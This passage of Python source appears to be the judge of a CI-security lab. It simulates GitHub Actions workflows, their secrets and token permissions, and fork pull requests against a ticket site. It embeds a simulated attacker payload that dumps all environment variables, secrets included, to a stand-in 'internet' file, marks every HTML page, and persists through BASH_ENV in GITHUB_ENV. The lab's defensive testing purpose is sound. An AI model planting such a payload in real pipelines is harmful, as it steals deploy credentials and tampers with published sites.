"""A small GitHub and a small browser, both on the judge's side.

`GitHub` reads the learner's workflows and plays events against them. What a job may do, which secrets it gets and which
code lies in its folder is decided here; only the commands of `run:` are executed in the sandbox, by a real bash.
`Browser` reads the page that build.py makes, with its headers, and says which scripts run and what may leave.
"""

import base64
import json
import re
from dataclasses import dataclass, field
from hashlib import new, sha256
from urllib.parse import urljoin, urlsplit

from quintain.judge import Garbled, Landed, happened, read_page

# --------------------------------------------------------------------------- what is known of actions

TAGS = {
    "actions/checkout": ("v7", "v7.0.1", "main"),
    "actions/cache": ("v6", "v6.0.2", "main"),
    "actions/upload-artifact": ("v8", "v8.1.0", "main"),
    "actions/download-artifact": ("v9", "v9.0.1", "main"),
    "farrier/changed-files": ("v3", "v3.2.0", "v3.3.0", "main"),
}
REVIEWED = {
    "actions/checkout": "07203ba40f2da2063278250ee5c2ccc9e16ebc9d",
    "actions/cache": "1947c0f6df7ef65ccb1d3281a7d013c9f340c06b",
    "actions/upload-artifact": "938e3a76d4c24eee753e15af381c131793d99b25",
    "actions/download-artifact": "e6966e5eaa98ffc6ad0eede2d7cf784faaf53dc8",
    "farrier/changed-files": "19604b60b6a29eb34652d225816377c4ccc8da64",
}
UNREVIEWED = {"farrier/changed-files": "64b1bebc262929c7197d040dc4eabca038cfee9f"}
PARTS = {"actions/cache/restore": "actions/cache", "actions/cache/save": "actions/cache"}

REPOSITORY = "brackenfell/tickets"
FORK = "wanderer/tickets"
WORKFLOWS = (".github/workflows/check.yml", ".github/workflows/deploy.yml", ".github/workflows/report.yml")
FILES = (
    *WORKFLOWS,
    "build.py",
    "deploy.py",
    "get_tools.py",
    "prices.json",
    "reviewed/cardform-2.4.1.js",
    "site/pay.html",
    "site/static/logo.svg",
    "site/static/tickets.css",
    "test_site.py",
    "tools/minify.py",
)
SCOPES = (
    "actions", "attestations", "checks", "contents", "deployments", "discussions", "id-token", "issues", "packages",
    "pages", "pull-requests", "security-events", "statuses",
)  # fmt: skip
MOST_STEPS = 40


class Refused(Exception):
    """GitHub would not take this workflow, or this lab's runner cannot play it."""


# --------------------------------------------------------------------------- the part that runs in the sandbox


def ask(box, order, mark):
    """Let the runner do something in the sandbox. ``mark`` tells it from one that a step has changed."""
    if mark != mark_of(box):
        raise Garbled("A step of a workflow has changed runner.py, which belongs to the judge.")
    ran = box.run("runner.py", stdin=json.dumps(order))
    try:
        answer = json.loads(ran.out)
    except ValueError:
        answer = None
    if not isinstance(answer, dict) or (order["do"] == "steps" and not are_ends(answer.get("ends"), order)):
        raise Garbled(f"A step of a workflow disturbed the runner: {ran.err.decode(errors='replace')[-300:]}")
    return answer


def mark_of(box):
    facts = box.stat("runner.py")
    return facts and (facts.kind, facts.inode, facts.size_bytes, facts.changed_nanoseconds)


def are_ends(ends, order):
    """Whether the runner's answer has the form of the ends of steps."""
    return isinstance(ends, list) and 0 < len(ends) <= len(order["steps"]) and all(map(is_end, ends))


def is_end(end):
    """Whether this has the form of a step's end."""
    if not isinstance(end, dict):
        return False
    pairs = [pair for name in ("env", "output") for pair in end.get(name, [None])]
    return (
        type(end.get("code")) is int
        and all(isinstance(end.get(name), str) for name in ("log", "inbox"))
        and all(isinstance(pair, list) and [type(each) for each in pair] == [str, str] for pair in pairs)
        and all(isinstance(place, str) for place in end.get("path", [None]))
    )


# --------------------------------------------------------------------------- expressions: ${{ … }}

TOKEN = re.compile(
    r"\s*(?:(?P<text>'(?:[^']|'')*')|(?P<number>-?(?:0x[0-9a-fA-F]+|\d+(?:\.\d+)?))|(?P<name>[A-Za-z_][\w-]*)"
    r"|(?P<sign>&&|\|\||==|!=|<=|>=|[<>!().,*\[\]]))"
)
STATUS = {"success", "failure", "always", "cancelled"}


def tokens(text):
    found, at = [], 0
    text = text.rstrip()
    while at < len(text):
        match = TOKEN.match(text, at)
        if match is None:
            raise Refused(f"GitHub cannot read the expression: {text}")
        found.append((match.lastgroup, match[match.lastgroup]))
        at = match.end()
    return found


def shown(value):
    """Write a value as GitHub does where a text is needed."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        return str(int(value)) if value == int(value) else repr(value)
    return "Object" if isinstance(value, dict) else "Array" if isinstance(value, list) else str(value)


def number(value):
    if isinstance(value, str):
        try:
            return float(value.strip() or 0)
        except ValueError:
            return float("nan")
    return float(value) if isinstance(value, bool | float | int) else 0.0 if value is None else float("nan")


def truth(value):
    return value not in (None, False, 0.0, "") or isinstance(value, dict | list)


def equal(one, other):
    if isinstance(one, str) and isinstance(other, str):
        return one.lower() == other.lower()
    if isinstance(one, dict | list) or isinstance(other, dict | list):
        return one is other
    return one is other if one is None and other is None else number(one) == number(other)


class Expression:
    """One expression, read and computed in one go."""

    def __init__(self, text, known, status):
        self.rest, self.known, self.status, self.text = tokens(text), known, status, text

    def value(self):
        value = self.either()
        if self.rest:
            raise Refused(f"GitHub cannot read the expression: {self.text}")
        return value

    def peek(self):
        return self.rest[0][1] if self.rest and self.rest[0][0] == "sign" else None

    def take(self, sign=None):
        if not self.rest or (sign and self.peek() != sign):
            raise Refused(f"GitHub cannot read the expression: {self.text}")
        return self.rest.pop(0)

    def either(self):
        value = self.both()
        while self.peek() == "||":
            self.take()
            other = self.both()
            value = value if truth(value) else other
        return value

    def both(self):
        value = self.compared()
        while self.peek() == "&&":
            self.take()
            other = self.compared()
            value = other if truth(value) else value
        return value

    def compared(self):
        value = self.negated()
        while self.peek() in {"==", "!=", "<", ">", "<=", ">="}:
            sign, other = self.take()[1], self.negated()
            value = {
                "==": lambda a, b: equal(a, b), "!=": lambda a, b: not equal(a, b),
                "<": lambda a, b: number(a) < number(b), ">": lambda a, b: number(a) > number(b),
                "<=": lambda a, b: number(a) <= number(b), ">=": lambda a, b: number(a) >= number(b),
            }[sign](value, other)  # fmt: skip
        return value

    def negated(self):
        if self.peek() == "!":
            self.take()
            return not truth(self.negated())
        return self.followed()

    def followed(self):
        value = self.atom()
        while self.peek() in {".", "["}:
            if self.take()[1] == ".":
                kind, name = self.take()
                value = self.each(value) if name == "*" else self.of(value, name)
            elif self.peek() == "*":
                self.take()
                self.take("]")
                value = self.each(value)
            else:
                key = self.either()
                self.take("]")
                value = self.of(value, key)
        return value

    def each(self, value):
        values = list(value.values()) if isinstance(value, dict) else value if isinstance(value, list) else []
        return Each(values)

    def of(self, value, key):
        if isinstance(value, Each):
            return Each([found for item in value if (found := self.of(item, key)) is not None])
        if isinstance(value, dict):
            return next((found for name, found in value.items() if name.lower() == shown(key).lower()), None)
        if isinstance(value, list) and isinstance(key, float) and 0 <= key < len(value):
            return value[int(key)]
        return None

    def atom(self):
        kind, text = self.take()
        if kind == "text":
            return text[1:-1].replace("''", "'")
        if kind == "number":
            return float(int(text, 0)) if "x" in text else float(text)
        if kind == "name":
            if self.peek() == "(":
                return self.called(text)
            plain = {"true": True, "false": False, "null": None}
            if text.lower() in plain:
                return plain[text.lower()]
            if text.lower() not in self.known:
                raise Refused(f"GitHub does not know {text} in the expression: {self.text}")
            return self.known[text.lower()]
        if text == "(":
            value = self.either()
            self.take(")")
            return value
        raise Refused(f"GitHub cannot read the expression: {self.text}")

    def called(self, name):
        self.take("(")
        values = []
        while self.peek() != ")":
            values.append(self.either())
            if self.peek() == ",":
                self.take()
            elif self.peek() != ")":
                raise Refused(f"GitHub cannot read the expression: {self.text}")
        self.take(")")
        name = name.lower()
        if name in STATUS:
            return self.status(name)
        functions = {
            "contains": contains,
            "startswith": lambda text, part: shown(text).lower().startswith(shown(part).lower()),
            "endswith": lambda text, part: shown(text).lower().endswith(shown(part).lower()),
            "format": lambda text, *rest: re.sub(r"\{(\d)\}", lambda found: shown(rest[int(found[1])]), text),
            "join": lambda values, between=",": (
                shown(between).join(map(shown, values)) if isinstance(values, list) else shown(values)
            ),
            "tojson": lambda value: json.dumps(value, indent=2),
            "fromjson": from_json,
            "hashfiles": lambda *patterns: sha256(repr(patterns).encode()).hexdigest(),
            "case": lambda *rest: next(
                (rest[at + 1] for at in range(0, len(rest) - 1, 2) if truth(rest[at])), rest[-1] if rest else None
            ),
        }
        if name not in functions:
            raise Refused(f"GitHub has no function {name}.")
        try:
            return functions[name](*values)
        except (TypeError, IndexError):
            raise Refused(f"The function {name} gets other values in: {self.text}") from None


class Each(list):
    """What `.*` gives: the next name is looked up in each."""


def contains(where, what):
    if isinstance(where, list):
        return any(equal(each, what) for each in where)
    return shown(what).lower() in shown(where).lower()


def from_json(text):
    try:
        return numbers(json.loads(shown(text)))
    except ValueError:
        raise Refused("fromJSON gets a text that is no JSON.") from None


def numbers(value):
    if isinstance(value, dict):
        return {name: numbers(each) for name, each in value.items()}
    if isinstance(value, list):
        return [numbers(each) for each in value]
    return float(value) if isinstance(value, int) and not isinstance(value, bool) else value


HOLE = re.compile(r"\$\{\{((?:[^'}]|'[^']*'|\}(?!\}))*)\}\}", re.DOTALL)


def filled(text, known, status):
    """Write values in place of all ${{ … }}; the text around them is not looked at, as on GitHub."""
    return HOLE.sub(lambda found: shown(Expression(found[1].strip(), known, status).value()), text)


def condition(text, known, status):
    """Compute an `if:`; without a word about the status, it also asks for success."""
    text = text.strip()
    whole = HOLE.fullmatch(text)
    if whole:
        text = whole[1].strip()
    elif "${{" in text:
        return truth(filled(text, known, status)) and status("success")
    asked = {name.lower() for kind, name in tokens(text) if kind == "name"} & STATUS
    value = truth(Expression(text, known, status).value())
    return value and (bool(asked) or status("success"))


# --------------------------------------------------------------------------- events, runs and jobs


@dataclass
class Run:
    """One run of one workflow."""

    workflow: str
    path: str
    event: str
    jobs: dict = field(default_factory=dict)
    tokens: dict = field(default_factory=dict)  # for each job, what its GITHUB_TOKEN may write
    artifacts: dict = field(default_factory=dict)
    log: str = ""

    @property
    def conclusion(self):
        results = set(self.jobs.values())
        return "failure" if "failure" in results else "success" if "success" in results else "skipped"


@dataclass
class Pull:
    """A pull request from a fork."""

    title: str
    branch: str
    files: dict
    body: str = "Please have a look."
    labels: tuple = ()
    action: str = "opened"
    association: str = "CONTRIBUTOR"


class GitHub:
    """The repository brackenfell/tickets with its workflows, its secrets and its caches."""

    def __init__(self, box, canary, rng):
        box.write("vault/token.txt", "moved\n")  # from now on, the token is only where a job gets it
        self.box, self.rng, self.token = box, rng, canary.deploy_token
        self.word = "".join(rng.choices("bcdfghjklmnpqrstvwxz", k=10))  # the attacker's mark
        self.moved, self.rotten = frozenset(), frozenset()
        self.changed_artifact = None
        self.evil_cache = False
        self.loot, self.deployed, self.runs, self.errors = [], [], [], []
        self.has_ever_run, self.homes = False, 0
        self.outside = box.stat("internet").inode
        self.mark = mark_of(box)
        answer = ask(box, {"do": "begin", "files": FILES}, self.mark)
        self.files = {path: str(text) for path, text in answer["texts"].items()}
        self.workflows = {}
        for path in WORKFLOWS:
            found = answer["workflows"].get(path, {})
            if "error" in found:
                raise Refused(f"GitHub cannot read {path}: {found['error']}")
            if found.get("value") not in (None, ""):
                try:
                    self.workflows[path] = Workflow(path, found["value"])
                except (TypeError, AttributeError, LookupError, ValueError, RecursionError) as error:
                    raise Refused(f"{path} holds something that GitHub would not take: {error}") from error
        names = [each.name for each in self.workflows.values()]
        if len(set(names)) < len(names):
            raise Refused("Two workflows have the same name.")

    # what the attacker's code does, wherever it runs

    @property
    def beacon(self):
        return f"/lab/internet/{self.word}"

    @property
    def evil_python(self):
        """Tell the attacker what there is, and leave a mark in all pages."""
        return (
            "import os, pathlib\n"
            f"pathlib.Path('{self.beacon}').write_text(repr(dict(os.environ)))\n"
            "for page in pathlib.Path('.').rglob('*.html'):\n"
            f"    page.write_text(page.read_text() + '<!-- {self.word} -->')\n"
        )

    @property
    def evil_action(self):
        """Do the same, and once more before each later command of the job."""
        evil = f"{self.beacon}.sh"
        return (
            f"cat > {evil} <<'EVIL'\nunset BASH_ENV\npython - <<'CODE'\n{self.evil_python}CODE\n"
            f"export BASH_ENV={evil}\nEVIL\n. {evil}\n"
            f'echo "BASH_ENV={evil}" >> "$GITHUB_ENV"\n'
        )

    def has_run(self):
        """Whether the attacker's code has run since the last question."""
        has = bool(self.box.read(f"internet/{self.word}"))
        facts = self.box.stat("internet")
        if facts is None or facts.kind != "folder" or facts.inode != self.outside:
            raise Garbled("A step of a workflow has changed the folder internet, which belongs to the judge.")
        if has:
            self.has_ever_run = True
            self.box.write(f"internet/{self.word}", "")
        return has

    def may_deploy(self, path):
        """Whether a workflow can lead to a deployment: it deploys, or others may wait for its end."""
        return "deploy.py" in self.files[path] or any("workflow_run" in each.on for each in self.workflows.values())

    # events

    def pull_request(self, pull, actions=None):
        """Somebody opens a pull request from a fork, or changes it."""
        number_ = float(self.rng.randrange(100, 900))
        head = "%040x" % self.rng.getrandbits(160)
        fork = {"full_name": FORK, "fork": True, "name": "tickets", "owner": {"login": "wanderer"}}
        event = {
            "action": pull.action,
            "number": number_,
            "pull_request": {
                "number": number_, "title": pull.title, "body": pull.body, "state": "open", "draft": False,
                "merged": False, "author_association": pull.association,
                "labels": [{"name": name} for name in pull.labels],
                "user": {"login": "wanderer", "type": "User"}, "html_url": f"https://github.test/{int(number_)}",
                "head": {"ref": pull.branch, "sha": head, "label": f"wanderer:{pull.branch}", "repo": fork,
                         "user": {"login": "wanderer"}},
                "base": {"ref": "main", "sha": "a" * 40, "repo": {"full_name": REPOSITORY}},
            },
            "repository": self.about(), "sender": {"login": "wanderer", "type": "User"},
        }  # fmt: skip
        if pull.action == "labeled" and pull.labels:
            event["label"] = {"name": pull.labels[0]}
        files = self.files | pull.files
        changed = [path for path, text in pull.files.items() if self.files.get(path) != text]
        runs = []
        for kind in ("pull_request", "pull_request_target"):
            inside = kind == "pull_request_target"
            scene = Scene(
                kind, event, files_of_pull=files, changed=changed, trusted=inside, pull=pull,
                ref="refs/heads/main" if inside else f"refs/pull/{int(number_)}/merge",
                sha="a" * 40 if inside else "b" * 40, head=head,
            )  # fmt: skip
            runs += self.play(scene, "main", pull.action)
        for run in list(runs):
            self.follow(run, event, pull, files, changed, head)
        return runs

    def push(self, message, files=(), only=None):
        """A maintainer merges something into main; ``only`` says which workflows are played."""
        files = dict(files)
        self.files |= files
        commit = {
            "id": "a" * 40, "message": message, "author": {"name": "Maya", "username": "maya"},
            "committer": {"name": "GitHub"}, "modified": list(files),
        }  # fmt: skip
        event = {
            "ref": "refs/heads/main", "before": "c" * 40, "after": "a" * 40, "head_commit": commit,
            "commits": [commit], "pusher": {"name": "maya"}, "repository": self.about(),
            "sender": {"login": "maya", "type": "User"}, "forced": False,
        }  # fmt: skip
        scene = Scene("push", event, None, list(files), trusted=True, ref="refs/heads/main", sha="a" * 40, head="")
        runs = self.play(scene, "main", None, only)
        for run in list(runs):
            self.follow(run, event, None, None, list(files), "a" * 40)
        return runs

    def about(self):
        return {
            "full_name": REPOSITORY, "name": "tickets", "default_branch": "main", "fork": False,
            "owner": {"login": "brackenfell"},
        }  # fmt: skip

    def follow(self, run, event, pull, files, changed, head):
        """Let the workflows run that wait for the end of a run."""
        branch = pull.branch if pull else "main"
        title = pull.title if pull else event["head_commit"]["message"]
        owner = FORK if pull else REPOSITORY
        happened_ = {
            "action": "completed", "repository": self.about(), "sender": {"login": "wanderer" if pull else "maya"},
            "workflow": {"name": run.workflow, "path": run.path},
            "workflow_run": {
                "id": 4711.0, "name": run.workflow, "event": run.event, "conclusion": run.conclusion,
                "status": "completed", "head_branch": branch, "head_sha": head, "display_title": title,
                "path": run.path, "run_number": 7.0, "html_url": "https://github.test/runs/4711", "run_attempt": 1.0,
                "actor": {"login": "wanderer" if pull else "maya"}, "pull_requests": [],
                "triggering_actor": {"login": "wanderer" if pull else "maya"},
                "head_repository": {"full_name": owner, "fork": bool(pull), "owner": {"login": owner.split("/")[0]}},
                "head_commit": {"id": head, "message": title, "author": {"name": "wanderer" if pull else "maya"}},
                "repository": self.about(),
            },
        }  # fmt: skip
        scene = Scene(
            "workflow_run", happened_, files, changed, trusted=True, pull=pull, ref="refs/heads/main", sha="a" * 40,
            head=head, after=run,
        )  # fmt: skip
        self.play(scene, branch, "completed")

    def play(self, scene, branch, action, only=None):
        runs = []
        for path, workflow in self.workflows.items():
            if (only is None or only(path)) and workflow.begins(scene, branch, action):
                run = Run(workflow.name, path, scene.kind)
                self.runs.append(run)
                runs.append(run)
                if action == ANY:
                    scene.event["action"] = (listed(workflow.on[scene.kind].get("types")) or USUAL)[0]
                try:
                    Player(self, workflow, scene, run).all()
                except (TypeError, AttributeError, LookupError, ValueError, ArithmeticError, RecursionError) as error:
                    raise Garbled(f"{path} holds something that GitHub would not take: {error}") from error
        return runs


@dataclass
class Scene:
    """What has happened, and what a run of it may see."""

    kind: str
    event: dict
    files_of_pull: dict | None
    changed: list
    trusted: bool
    ref: str
    sha: str
    head: str
    pull: Pull | None = None
    after: Run | None = None


def listed(value):
    return [] if value in (None, "") else value if isinstance(value, list) else [value]


def mapped(value, what):
    if value in (None, ""):
        return {}
    if not isinstance(value, dict):
        raise Refused(f"{what} must be a mapping.")
    return value


def fits(name, patterns):
    """Tell whether a branch fits the filter's patterns; the last that fits decides."""
    fit = False
    for pattern in map(str, patterns):
        plain = pattern.removeprefix("!")
        made = re.escape(plain).replace(r"\*\*", ".*").replace(r"\*", "[^/]*").replace(r"\?", ".?")
        if re.fullmatch(made, name):
            fit = not pattern.startswith("!")
    return fit


TRIGGERS = {"push", "pull_request", "pull_request_target", "workflow_run", "workflow_dispatch", "schedule"}
OF_WORKFLOW = {"name", "run-name", "on", "permissions", "env", "defaults", "concurrency", "jobs"}
OF_JOB = {
    "name", "runs-on", "needs", "if", "permissions", "environment", "concurrency", "outputs", "env", "defaults",
    "steps", "timeout-minutes", "continue-on-error",
}  # fmt: skip
USUAL = ["opened", "synchronize", "reopened"]
ANY = "any"  # the attacker causes whatever event a workflow waits for
OF_EVENT = {"branches", "branches-ignore", "types", "paths", "paths-ignore", "workflows", "tags"}
WORDS_OF_JOB = ("name", "if", "timeout-minutes", "continue-on-error")
OF_STEP = {
    "id", "if", "name", "uses", "with", "run", "env", "shell", "working-directory", "continue-on-error",
    "timeout-minutes",
}  # fmt: skip


class Workflow:
    """One file in .github/workflows, checked as far as GitHub would check it."""

    def __init__(self, path, value):
        self.path, self.value = path, mapped(value, path)
        self.known(self.value, OF_WORKFLOW, "in the file")
        self.name = shown(self.value.get("name") or path)
        on = self.value.get("on")
        if isinstance(on, str | list):
            on = dict.fromkeys(map(str, listed(on)))
        self.on = {
            name: {} if name == "schedule" else mapped(value, f"{path}: {name}")
            for name, value in mapped(on, f"{path}: on").items()
        }
        for name, rules in self.on.items():
            if name not in TRIGGERS:
                raise Refused(f"{path}: the lab's runner does not know the event {name}.")
            if name not in {"workflow_dispatch", "schedule"}:
                self.known(rules, OF_EVENT, f"below {name}")
            for key, values in rules.items():
                self.words(values if isinstance(values, list) else [values], f"{name}: {key}")
        self.jobs = mapped(self.value.get("jobs"), f"{path}: jobs")
        if not self.on or not self.jobs:
            raise Refused(f"{path}: a workflow needs on: and jobs:.")
        self.env = mapped(self.value.get("env"), f"{path}: env")
        self.words(self.env.values(), "a value in env")
        self.defaults(self.value)
        self.rights(self.value.get("permissions"))
        for name, job in self.jobs.items():
            self.check_job(name, job)
        waiting = {name: set(listed(job.get("needs"))) for name, job in self.jobs.items()}
        while waiting:
            ready = [name for name, needs in waiting.items() if not needs & set(waiting)]
            if not ready:
                raise Refused(f"{path}: the jobs wait for each other.")
            for name in ready:
                del waiting[name]

    def known(self, value, names, where):
        for name in value:
            if name not in names:
                raise Refused(f"{self.path}: the lab's runner does not know the key {name} {where}.")

    def words(self, values, where):
        for value in values:
            if not isinstance(value, str):
                raise Refused(f"{self.path}: {where} must be a text.")

    def check_job(self, name, job):
        job = mapped(job, f"{self.path}: {name}")
        self.words([job[key] for key in WORDS_OF_JOB if key in job], f"a key of the job {name}")
        self.words(listed(job.get("needs")), "needs")
        for part in ("env", "outputs"):
            self.words(mapped(job.get(part), f"{self.path}: {part}").values(), f"a value in {part}")
        self.known(job, OF_JOB, f"in the job {name}")
        if not job.get("runs-on"):
            raise Refused(f"{self.path}: the job {name} has no runs-on.")
        steps = job.get("steps")
        if not isinstance(steps, list) or not steps or len(steps) > MOST_STEPS:
            raise Refused(f"{self.path}: the job {name} has no steps, or more than {MOST_STEPS}.")
        for needed in listed(job.get("needs")):
            if needed not in self.jobs:
                raise Refused(f"{self.path}: {name} needs a job {needed} that is not there.")
        self.rights(job.get("permissions"))
        self.defaults(job)
        for step in steps:
            step = mapped(step, f"{self.path}: a step of {name}")
            self.known(step, OF_STEP, f"in a step of {name}")
            if ("uses" in step) == ("run" in step):
                raise Refused(f"{self.path}: a step of {name} needs either uses or run.")
            self.words([step[key] for key in step if key not in {"env", "with"}], f"a key in a step of {name}")
            for part in ("env", "with"):
                self.words(mapped(step.get(part), f"{self.path}: {part}").values(), f"a value in {part}")
            if "uses" in step:
                action(step["uses"])

    def defaults(self, value):
        defaults = mapped(value.get("defaults"), f"{self.path}: defaults")
        rules = mapped(defaults.get("run"), f"{self.path}: defaults.run")
        self.words(rules.values(), "defaults")
        return rules

    def rights(self, value):
        """Return what a token may write by a key `permissions`; None if the key is not there."""
        if value is None:
            return None
        if value in ("", {}):
            return frozenset()
        if value in ("read-all", "write-all"):
            return frozenset(SCOPES) if value == "write-all" else frozenset()
        for name, right in mapped(value, f"{self.path}: permissions").items():
            self.words([right], "a permission")
            if name not in SCOPES or right not in {"read", "write", "none"}:
                raise Refused(f"{self.path}: there is no permission {name}: {right}.")
        return frozenset(name for name, right in value.items() if right == "write")

    def begins(self, scene, branch, action_):
        """Tell whether an event starts this workflow."""
        if scene.kind not in self.on:
            return False
        rules = self.on[scene.kind]
        if scene.pull and scene.kind != "workflow_run" and action_ != ANY:
            if action_ not in (listed(rules.get("types")) or USUAL):
                return False
        if rules.get("branches") and not fits(branch, listed(rules["branches"])):
            return False
        if rules.get("branches-ignore") and fits(branch, listed(rules["branches-ignore"])):
            return False
        if scene.kind == "push" and rules.get("tags") and not rules.get("branches"):
            return False
        if rules.get("paths") and not any(fits(path, listed(rules["paths"])) for path in scene.changed):
            return False
        if rules.get("paths-ignore") and all(fits(path, listed(rules["paths-ignore"])) for path in scene.changed):
            return False
        if scene.kind == "workflow_run" and scene.after.workflow not in listed(rules.get("workflows")):
            return False
        return True


def action(uses):
    """Read `owner/name@commit`; return the name and what is behind the at."""
    name, at, ref = str(uses).partition("@")
    plain = PARTS.get(name, name)
    if name == "actions/setup-python":
        raise Refused("The lab's runner has Python already, and no actions/setup-python.")
    if plain not in TAGS:
        raise Refused(f"The lab has no action {name}; reviewed.md lists those that it has.")
    if not at:
        raise Refused(f"{name} needs an @ and a version.")
    if re.fullmatch(r"[0-9a-f]{40}", ref):
        if ref not in {REVIEWED[plain], UNREVIEWED.get(plain)}:
            raise Refused(f"GitHub finds no commit {ref} of {plain}.")
    elif ref not in TAGS[plain]:
        if re.fullmatch(r"[0-9a-fA-F]{7,40}", ref):
            raise Refused(f"GitHub refuses {uses}: use the full commit, 40 small letters and digits.")
        raise Refused(f"GitHub finds no {ref} of {plain}.")
    return name, ref


class Player:
    """Plays one run: its jobs in the order of their needs, and the steps of each."""

    def __init__(self, hub, workflow, scene, run):
        self.hub, self.workflow, self.scene, self.run = hub, workflow, scene, run
        self.outputs = {}

    def all(self):
        waiting = dict(self.workflow.jobs)
        while waiting:
            ready = [name for name, job in waiting.items() if not set(listed(job.get("needs"))) & set(waiting)]
            for name in ready:
                try:
                    self.job(name, waiting.pop(name))
                except Refused as error:
                    self.failed(error)
                    self.run.jobs[name] = "failure"

    def failed(self, error):
        self.run.log += f"{error}\n"
        self.hub.errors.append(str(error))

    @property
    def from_fork(self):
        return self.scene.kind == "pull_request"

    def github(self, job):
        scene = self.scene
        pull = scene.event.get("pull_request", {})
        return {
            "event_name": scene.kind, "event": scene.event, "ref": scene.ref,
            "ref_name": scene.ref.removeprefix("refs/heads/").removeprefix("refs/"), "sha": scene.sha,
            "ref_type": "branch", "head_ref": pull.get("head", {}).get("ref", ""), "job": job,
            "base_ref": "main" if pull else "", "actor": scene.event["sender"]["login"], "repository": REPOSITORY,
            "triggering_actor": scene.event["sender"]["login"], "repository_owner": "brackenfell",
            "workflow": self.workflow.name, "run_id": "4712", "run_number": "8", "run_attempt": "1",
            "server_url": "https://github.test", "api_url": "https://api.github.test", "token": self.token,
            "workspace": "", "ref_protected": True,
        }  # fmt: skip

    def job(self, name, job):
        hub = self.hub
        self.token = "ghs_" + "".join(hub.rng.choices("abcdefghij0123456789", k=30))
        self.identity = "oidc_" + "".join(hub.rng.choices("abcdefghij0123456789", k=30))
        needs = {each: {"result": self.run.jobs[each], "outputs": self.outputs.get(each, {})}
                 for each in self.needed(job)}  # fmt: skip
        results = {each["result"] for each in needs.values()}
        may = self.workflow.rights(job.get("permissions"))
        if may is None:
            may = self.workflow.rights(self.workflow.value.get("permissions"))
        may = frozenset(SCOPES) - {"id-token"} if may is None else may  # this repository's default: read and write
        may = frozenset() if self.from_fork else may
        secrets = {"GITHUB_TOKEN": self.token} | ({} if self.from_fork else {"DEPLOY_TOKEN": hub.token})
        known = {
            "github": self.github(name), "secrets": secrets, "needs": needs, "vars": {}, "inputs": {}, "env": {},
            "runner": {"os": "Linux", "arch": "X64", "temp": "", "name": "lab"}, "steps": {},
            "job": {"status": "success"}, "strategy": {}, "matrix": {},
        }  # fmt: skip

        def before(word):
            good = results <= {"success"}
            return {"success": good, "failure": "failure" in results, "always": True, "cancelled": False}[word]

        direct = {self.run.jobs[each] for each in listed(job.get("needs"))}
        text = job.get("if")
        if not (condition(text, known, before) if text else direct <= {"success"}):
            self.run.jobs[name] = "skipped"
            return
        self.run.tokens[name] = may
        hub.homes += 1
        state = Job(f"/lab/work/{hub.homes}", may, known, self.holdings(job, may))
        known["runner"]["temp"], known["github"]["workspace"] = f"{state.home}/temp", f"{state.home}/tickets"
        for part in (self.workflow.env, mapped(job.get("env"), "env")):
            state.env |= {key: filled(shown(value), known, state.status) for key, value in part.items()}
        for number_, step in enumerate(job["steps"]):
            try:
                self.step(state, job, step, number_)
            except Refused as error:  # it fails the step, and not what has run before
                self.flush(state)
                self.failed(error)
                state.good = False
        self.flush(state)
        self.outputs[name] = {
            key: filled(shown(value), known, state.status)
            for key, value in mapped(job.get("outputs"), "outputs").items()
        }
        self.run.jobs[name] = "success" if state.good or job.get("continue-on-error") == "true" else "failure"

    def needed(self, job):
        found = []
        for each in listed(job.get("needs")):
            found += [each, *self.needed(self.workflow.jobs[each])]
        return list(dict.fromkeys(found))

    def holdings(self, job, may):
        """Return what code that runs in a job can take: all secrets of the job, its token, its identity."""
        text = json.dumps([job, self.workflow.env])
        held = []
        named = re.search(r"secrets\s*(\.\s*DEPLOY_TOKEN|\.\s*\*|\[|\))|toJSON\(\s*secrets", text, re.IGNORECASE)
        if named and not self.from_fork:
            held.append("the deploy token")
        writes = sorted(may - {"id-token"})
        if writes:
            held.append(f"a token that may write: {', '.join(writes)}")
        if "id-token" in may and self.scene.ref == "refs/heads/main":
            held.append("an identity that the host believes")
        return held

    def step(self, state, job, step, number_):
        known = state.known
        text = step.get("if")
        asks = re.search(r"\$\{\{[^}]*\b(steps|env|job|success|failure|always|cancelled)\b", json.dumps(step))
        if text or asks or "uses" in step:
            self.flush(state)
        known["env"] = dict(state.env)
        known["job"] = {"status": "success" if state.good else "failure"}
        name = shown(step.get("id") or f"__{number_}")
        known["steps"][name] = {"outcome": "skipped", "conclusion": "skipped", "outputs": {}}
        if not (condition(text, known, state.status) if text else state.good):
            return
        env = {key: filled(shown(value), known, state.status) for key, value in mapped(step.get("env"), "env").items()}
        known["env"] = state.env | env
        goes_on = shown(step.get("continue-on-error")) == "true"
        if "run" in step:
            self.ran(state, job, step, env, name, goes_on)
            return
        good, outputs = self.used(state, step, env)
        self.ended(state, name, good, outputs, goes_on)

    def ended(self, state, name, good, outputs, goes_on):
        """Write down how a step has ended."""
        if not good and not goes_on:
            state.good = False
        outcome, conclusion = "success" if good else "failure", "success" if good or goes_on else "failure"
        state.known["steps"][name] = {"outcome": outcome, "conclusion": conclusion, "outputs": outputs}

    # run:

    def ran(self, state, job, step, env, name, goes_on):
        """Put a script behind those that wait; they run together, as long as nothing asks how one has ended."""
        script = filled(shown(step["run"]), state.known, state.status)
        rules = self.workflow.defaults(self.workflow.value) | self.workflow.defaults(job)
        shell = shown(step.get("shell") or rules.get("shell") or "")
        shells = {
            "": ["bash", "-e"], "bash": ["bash", "--noprofile", "--norc", "-e", "-o", "pipefail"], "sh": ["sh", "-e"],
            "python": ["python"],
        }  # fmt: skip
        if shell not in shells:
            raise Refused(f"The lab's runner does not know the shell {shell}.")
        cwd = filled(
            shown(step.get("working-directory") or rules.get("working-directory") or ""), state.known, state.status
        )
        self.wait(state, name, script, env, goes_on, shells[shell], cwd)

    def wait(self, state, name, script, env, goes_on, shell=("bash", "-e"), cwd=""):
        about, home = state.known["github"], state.home
        plain = {
            "CI": "true", "GITHUB_ACTIONS": "true", "GITHUB_WORKSPACE": f"{home}/tickets", "HOST_INBOX": f"{home}/inbox.json",
            "GITHUB_ENV": f"{home}/temp/env", "GITHUB_OUTPUT": f"{home}/temp/output", "GITHUB_PATH": f"{home}/temp/path",
            "GITHUB_STEP_SUMMARY": f"{home}/temp/summary", "GITHUB_EVENT_PATH": f"{home}/temp/event.json",
            "RUNNER_TEMP": f"{home}/temp", "RUNNER_OS": "Linux",
        }  # fmt: skip
        plain |= {f"GITHUB_{key.upper()}": shown(about[key]) for key in (
            "event_name", "ref", "ref_name", "sha", "head_ref", "base_ref", "actor", "repository", "workflow", "run_id",
            "run_number", "job", "repository_owner", "server_url",
        )}  # fmt: skip
        if "id-token" in state.may:
